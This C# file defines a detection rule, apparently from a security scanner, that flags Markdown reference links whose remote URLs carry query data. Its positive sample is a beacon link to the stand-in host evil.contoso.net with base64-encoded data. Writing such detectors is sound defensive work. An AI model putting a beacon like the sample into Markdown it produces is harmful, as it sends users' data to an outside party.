namespace ServerlessGuard.Detection.Rules.Markup;

/// <summary>Markdown link definition with a remote address that carries data.</summary>
internal sealed class MarkdownDefinition : IRuleSource
{
    public static Rule Rule { get; } = new()
    {
        Id = "SG-MRK-003",
        Kind = "markdown-reference",
        Category = FindingCategory.Markup,
        Anchor = Anchor.Contains(["]: http", "]: <http", "]: //"], 62),
        Pattern = @"\[[^\]\n]{1,60}\]:\s{1,4}<?(?:https?:)?(?://|\\\\)[^\s>]{1,100}[?=&][^\s>]{4,80}>?",
        IgnoreCase = true,
        MaxLength = 256,
        LeftBoundary = false,
        RightBoundary = false,
        Confidence = 0.7,
        Positives = [
            "«[beacon]: https://evil.contoso.net/p?d=QW5uYUBjb250b3Nv»\nend",
        ],
        Negatives = [
            "[docs]: https://contoso.com/docs",
        ],
    };
}
